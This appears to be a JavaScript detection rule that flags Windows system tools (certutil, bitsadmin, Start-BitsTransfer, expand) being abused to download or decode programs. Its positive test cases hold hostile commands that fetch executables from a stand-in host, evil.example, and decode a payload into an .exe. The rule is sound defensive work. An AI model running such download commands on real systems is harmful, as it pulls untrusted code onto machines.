import { defineRule, perInvocation } from './rule.js';
import { invocationUrls, lowerArgs } from './match.js';

export const rule = defineRule({
  id: 'lolbin_download',
  category: 'remote_fetch',
  severity: 'critical',
  technique: 'T1105',
  title: 'Uses a Windows system tool as a downloader (certutil -urlcache, bitsadmin /transfer, Start-BitsTransfer of a program)',
  check: perInvocation((inv) => {
    const a = lowerArgs(inv);
    if (inv.program === 'certutil' && /[-/](urlcache|verifyctl)/.test(a)) return `certutil downloads ${invocationUrls(inv)[0] ?? 'a file'}; attackers use it because it is trusted and always present`;
    if (inv.program === 'bitsadmin' && /\/(transfer|addfile|setnotifycmdline)/.test(a)) return `bitsadmin downloads ${invocationUrls(inv)[0] ?? 'a file'} in the background`;
    if (inv.program === 'start-bitstransfer' && /\.(exe|dll|ps1|bat|hta|vbs|scr)\b/.test(a)) return 'Start-BitsTransfer downloads a program';
    if (inv.program === 'certutil' && /[-/]decode(hex)?\b/.test(a)) return 'certutil decodes an encoded file (a common way to smuggle a program)';
    if (inv.program === 'expand' && /^\\\\|https?:/.test(a)) return 'expand copies a file from a remote share';
    return undefined;
  }),
  cases: {
    positive: [
      ['cmd', 'certutil.exe -urlcache -split -f http://evil.example/p.exe p.exe'],
      ['cmd', 'bitsadmin /transfer j /download /priority high http://evil.example/a.exe C:\\Users\\Public\\a.exe'],
      ['cmd', 'certutil -decode payload.b64 payload.exe'],
    ],
    negative: [['cmd', 'certutil -hashfile setup.exe SHA256']],
  },
});
